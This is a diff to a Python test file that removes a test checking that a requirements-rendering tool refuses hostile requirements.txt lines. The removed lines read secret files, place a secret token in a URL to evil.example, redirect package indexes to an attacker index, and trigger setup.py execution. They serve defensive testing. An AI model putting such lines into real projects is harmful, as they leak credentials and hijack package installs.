@@ -291,49 +291,6 @@ def test_a_wheel_that_unpacks_to_a_hundred_times_its_size_ends_at_the_disk_limit
     assert left < 2_000_000
 
 
-LINES = """\
--r {secret}
--c {secret}
---requirement={secret}
--r ../away/secret.html
-plain==${{SECRET_TOKEN}}
-plain @ file://{secret}
-plain @ https://user:${{SECRET_TOKEN}}@evil.example/plain.whl
-{secret}
--e .
--e file://{project}
-.
-git+file://{project}
---find-links {project}
---no-binary :all:
---index-url {evil}
---extra-index-url {evil}
---trusted-host evil.example
---config-settings x=y
-plain \\
-  --index-url {evil}
-"""
-
-
-def test_requirements_that_read_run_or_lead_elsewhere_are_refused_and_tell_nothing(
-    contained: Recto, project: Path, evil_index: LoopbackIndex, index: LoopbackIndex, secret: Path
-) -> None:
-    document(project)
-    lines = LINES.format(secret=secret, project=project, evil=evil_index.url)
-    (project / "requirements.txt").write_text(lines)
-    (project / "setup.py").write_text(f"open({str(project)!r} + '/setup-ran', 'w')\n")
-
-    ran = contained(*RENDER)
-
-    assert ran.json["status"] == "failure"
-    refused = {problem["source"]["line"] for problem in ran.json["problems"] if problem["level"] == "error"}
-    # The last two lines are one.
-    assert refused >= set(range(1, lines.count("\n"))), ran.json["problems"]
-    assert SECRET not in ran.out + ran.err
-    assert not (project / "setup-ran").exists()
-    assert evil_index.asked == index.asked == []
-
-
 def test_terminals_of_those_who_watch_are_told_no_control_codes(
     contained: Recto, project: Path, index: LoopbackIndex
 ) -> None:
